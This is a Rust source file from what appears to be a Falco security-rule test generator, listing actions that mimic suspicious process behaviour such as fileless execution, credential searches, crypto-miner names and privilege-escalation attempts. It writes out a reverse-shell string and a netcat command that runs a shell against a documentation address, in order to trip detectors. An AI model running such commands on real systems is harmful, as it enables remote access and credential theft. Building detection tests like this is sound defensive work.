//! Things that processes do.

use std::fs::{self, File};
use std::io::Write as _;
use std::net::{TcpListener, TcpStream};
use std::os::fd::AsRawFd as _;
use std::os::unix::fs::PermissionsExt as _;
use std::process::Command;

use rustix::fs::MemfdFlags;

use super::{Action, Place};
use crate::raw;
use crate::stage::{DO, run, shell};

/// A program that does nothing and is everywhere.
const NOTHING: &str = "/bin/true";

/// See the module.
pub(super) const ACTIONS: &[Action] = &[
    Action {
        name: "run-from-memory",
        place: Place::Host,
        about: "executes a program that is only in memory",
        rules: &["Program run from memory"],
        upstream: &["Fileless execution via memfd_create"],
        act: |_| {
            let memory = rustix::fs::memfd_create("falco-generator", MemfdFlags::CLOEXEC)?;
            let mut memory = File::from(memory);
            memory.write_all(&fs::read(NOTHING)?)?;
            let path = format!("/proc/{}/fd/{}", std::process::id(), memory.as_raw_fd());
            let read_only = File::open(&path)?;
            drop(memory);
            let path = format!("/proc/{}/fd/{}", std::process::id(), read_only.as_raw_fd());
            run(&mut Command::new(path))
        },
    },
    Action {
        name: "run-from-shared-memory",
        place: Place::Host,
        about: "executes a script in /dev/shm",
        rules: &["Program run from shared memory"],
        upstream: &["Execution from /dev/shm"],
        act: |_| {
            let path = format!("/dev/shm/falco-generator-{}.sh", std::process::id());
            fs::write(&path, "exit 0\n")?;
            fs::set_permissions(&path, fs::Permissions::from_mode(0o755))?;
            let done = run(Command::new("/bin/sh").arg(&path));
            fs::remove_file(&path)?;
            done
        },
    },
    Action {
        name: "ask-to-be-traced",
        place: Place::Host,
        about: "asks to be traced",
        rules: &["Process asks to be traced"],
        upstream: &["PTRACE anti-debug attempt"],
        act: |_| {
            raw::trace_me()?;
            Ok(())
        },
    },
    Action {
        name: "attach",
        place: Place::Host,
        about: "attaches to another process",
        rules: &["Code put into another process"],
        upstream: &["PTRACE attached to process"],
        act: |stage| {
            let mut child = Command::new(stage.double("sleeper")?)
                .env(DO, "sleep")
                .spawn()?;
            let attached = raw::attach(child.id() as i32);
            child.kill()?;
            child.wait()?;
            attached?;
            Ok(())
        },
    },
    Action {
        name: "search-keys",
        place: Place::Host,
        about: "searches for private keys",
        rules: &["Search for credentials"],
        upstream: &["Search Private Keys or Passwords"],
        act: |stage| {
            run(Command::new("find").arg(stage.path("")).args([
                "-maxdepth",
                "1",
                "-name",
                "id_rsa",
            ]))
        },
    },
    Action {
        name: "search-cloud-keys",
        place: Place::Host,
        about: "searches for credentials of a cloud",
        rules: &["Search for credentials"],
        upstream: &["Find AWS Credentials"],
        act: |stage| {
            run(Command::new("grep")
                .args(["-r", "aws_secret_access_key"])
                .arg(stage.path("")))
        },
    },
    Action {
        name: "shell-from-server",
        place: Place::Host,
        about: "a web server starts a shell",
        rules: &["Shell started by a server"],
        upstream: &["Run shell untrusted"],
        act: |stage| stage.disguised("httpd", "shell"),
    },
    Action {
        name: "tool-from-server",
        place: Place::Host,
        about: "a web server starts curl",
        rules: &["Tool started by a server"],
        upstream: &[],
        act: |stage| {
            stage.double("curl")?;
            stage.disguised("nginx", "curl")
        },
    },
    Action {
        name: "program-from-database",
        place: Place::Host,
        about: "a database starts a program",
        rules: &["Program started by a database"],
        upstream: &["DB program spawned process"],
        act: |stage| stage.disguised("mysqld", "list"),
    },
    Action {
        name: "socket-as-input",
        place: Place::Host,
        about: "makes a connection the standard input",
        rules: &["Shell with a socket as its input"],
        upstream: &[],
        act: |_| {
            let listener = TcpListener::bind("127.0.0.1:0")?;
            let stream = TcpStream::connect(listener.local_addr()?)?;
            raw::as_input(stream.as_raw_fd())?;
            Ok(())
        },
    },
    Action {
        name: "reverse-shell-words",
        place: Place::Host,
        about: "starts a shell with the words of a reverse shell",
        rules: &["Reverse shell on a command line"],
        upstream: &[],
        act: |_| shell("true # bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"),
    },
    Action {
        name: "netcat-with-program",
        place: Place::Host,
        about: "starts netcat so that it runs a shell",
        rules: &["Netcat that runs a program", "Network tool on the host"],
        upstream: &[
            "Netcat/Socat Remote Code Execution on Host",
            "Launch Suspicious Network Tool on Host",
        ],
        act: |stage| stage.pretend("nc", &["-e", "/bin/sh", "192.0.2.1", "4444"]),
    },
    Action {
        name: "network-tool",
        place: Place::Host,
        about: "starts a scanner of networks",
        rules: &["Network tool on the host"],
        upstream: &["Launch Suspicious Network Tool on Host"],
        act: |stage| stage.pretend("nmap", &["192.0.2.0/24"]),
    },
    Action {
        name: "shell-of-system-account",
        place: Place::Host,
        about: "gives a system account a shell at a terminal",
        rules: &["Interactive shell of a system account"],
        upstream: &["System user interactive"],
        act: |stage| stage.disguised("login", "terminal-shell"),
    },
    Action {
        name: "account-tool",
        place: Place::Host,
        about: "starts useradd",
        rules: &["Account tool used"],
        upstream: &["User mgmt binaries"],
        act: |stage| {
            stage.cover(&["/usr/sbin"])?;
            stage.disguised_at("/usr/sbin/useradd", &["falco-generator"], "nothing")
        },
    },
    Action {
        name: "schedule-by-tool",
        place: Place::Host,
        about: "gives crontab a job",
        rules: &["Job scheduled"],
        upstream: &["Schedule Cron Jobs"],
        act: |stage| {
            stage.cover(&["/usr/bin"])?;
            stage.disguised_at("/usr/bin/crontab", &["falco-generator"], "nothing")
        },
    },
    Action {
        name: "miner",
        place: Place::Host,
        about: "starts a program with the name of a miner",
        rules: &["Mining program started"],
        upstream: &["Known Cryptominer Process Executed"],
        act: |stage| stage.pretend("xmrig", &[]),
    },
    Action {
        name: "stratum",
        place: Place::Host,
        about: "names a pool of miners on a command line",
        rules: &["Stratum address on a command line"],
        upstream: &["Detect crypto miners using the Stratum protocol"],
        act: |stage| stage.pretend("worker", &["-o", "stratum+tcp://pool.example:3333"]),
    },
    Action {
        name: "tool-from-package",
        place: Place::Host,
        about: "an installation of packages starts curl",
        rules: &["Network tool run by a package installation"],
        upstream: &[],
        act: |stage| {
            stage.double("curl")?;
            stage.disguised("npm", "curl")
        },
    },
    Action {
        name: "loader-environment",
        place: Place::Host,
        about: "starts a program with tunables for its loader",
        rules: &["Loader tuned by the environment"],
        upstream: &["Potential Local Privilege Escalation via Environment Variables Misuse"],
        act: |_| run(Command::new(NOTHING).env("GLIBC_TUNABLES", "glibc.malloc.check=0")),
    },
    Action {
        name: "proxy",
        place: Place::Host,
        about: "starts curl with a proxy of its own",
        rules: &["Download through a proxy of its own"],
        upstream: &["Program run with disallowed http proxy env"],
        act: |stage| {
            run(Command::new(stage.double("curl")?)
                .args(["http://192.0.2.1"])
                .env("HTTP_PROXY", "http://192.0.2.1:3128"))
        },
    },
    Action {
        name: "become-root",
        place: Place::Host,
        about: "a process without rights asks to become root",
        rules: &["Attempt to become root"],
        upstream: &["Non sudo setuid"],
        act: |_| {
            raw::become_user(65534)?;
            let _ = raw::ask_for_root();
            Ok(())
        },
    },
    Action {
        name: "overflow-sudo",
        place: Place::Host,
        about: "starts sudoedit the way that overflows it",
        rules: &["Attempt to overflow sudo"],
        upstream: &["Sudo Potential Privilege Escalation"],
        act: |stage| stage.disguised_as("sudoedit", &["-s", "AAAA\\"]),
    },
    Action {
        name: "trick-pkexec",
        place: Place::Host,
        about: "starts pkexec without arguments",
        rules: &["Attempt to trick pkexec"],
        upstream: &["Polkit Local Privilege Escalation Vulnerability (CVE-2021-4034)"],
        act: |stage| stage.disguised_as("pkexec", &[]),
    },
    Action {
        name: "page-faults",
        place: Place::Host,
        about: "a process without rights handles its page faults",
        rules: &["Page faults handled by an unprivileged process"],
        upstream: &["Unprivileged Delegation of Page Faults Handling to a Userspace Process"],
        act: |_| {
            raw::become_user(65534)?;
            raw::page_faults()?;
            Ok(())
        },
    },
    Action {
        name: "backdoored-library",
        place: Place::Host,
        about: "sshd reads a backdoored library",
        rules: &["Backdoored liblzma read by sshd"],
        upstream: &["Backdoored library loaded into SSHD (CVE-2024-3094)"],
        act: |stage| {
            stage.file("liblzma.so.5.6.1", "none")?;
            stage.disguised("sshd", "read-liblzma")
        },
    },
];
